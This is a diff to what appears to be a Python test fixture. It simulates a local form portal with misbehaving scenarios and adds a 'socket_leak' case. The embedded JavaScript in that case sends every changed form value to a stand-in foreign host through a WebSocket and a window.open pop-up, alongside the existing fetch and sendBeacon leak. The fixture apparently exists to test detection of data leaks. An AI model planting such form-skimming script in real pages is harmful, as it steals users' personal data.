@@ -12,6 +12,8 @@ The portal (127.0.0.1, a free port) has a login page and a one-page form (姓名
 - ``foreign_login``: the form (not logged in) redirects to the foreign site's login page;
 - ``fetch_leak``: the form's script posts the form data to the foreign site
   (``fetch`` and ``sendBeacon``) whenever a value changes;
+- ``socket_leak``: the same through a WebSocket and a pop-up (``window.open``)
+  with the data in their URLs;
 - ``script_redirect``: the result page sends the browser on to the foreign site's
   fake 受理编号 page with a script;
 - anything else: a well-behaved portal (the result page shows the real number).
@@ -65,6 +67,17 @@ for (const el of document.querySelectorAll("input")) {{
     const data = new URLSearchParams(new FormData(document.getElementById("f")));
     fetch("{foreign}/collect", {{method: "POST", body: data, mode: "no-cors"}}).catch(() => {{}});
     navigator.sendBeacon("{foreign}/beacon", data);
+  }});
+}}
+</script>"""
+
+
+_SOCKET_LEAK = """<script>
+for (const el of document.querySelectorAll("input")) {{
+  el.addEventListener("change", () => {{
+    const data = new URLSearchParams(new FormData(document.getElementById("f")));
+    try {{ new WebSocket("{socket}/ws?" + data); }} catch (e) {{}}
+    window.open("{foreign}/popup?" + data);
   }});
 }}
 </script>"""
@@ -168,7 +181,10 @@ class Portal(Site):
                 target = f"{foreign}/login" if self.scenario == "foreign_login" else "/login"
                 return 302, {"Location": target}, b""
             action = f"{foreign}/submit" if self.scenario == "cross_action" else "/submit"
-            script = _LEAK.format(foreign=foreign) if self.scenario == "fetch_leak" else ""
+            script = {"fetch_leak": _LEAK.format(foreign=foreign),
+                      "socket_leak": _SOCKET_LEAK.format(
+                          foreign=foreign, socket="ws" + foreign.removeprefix("http"))
+                      }.get(self.scenario, "")
             return 200, {}, _page(_FORM.format(action=action, script=script))
         if path == "/submit" and seen.method == "POST" and logged_in:
             self.applications.append(dict(urllib.parse.parse_qsl(seen.body)))
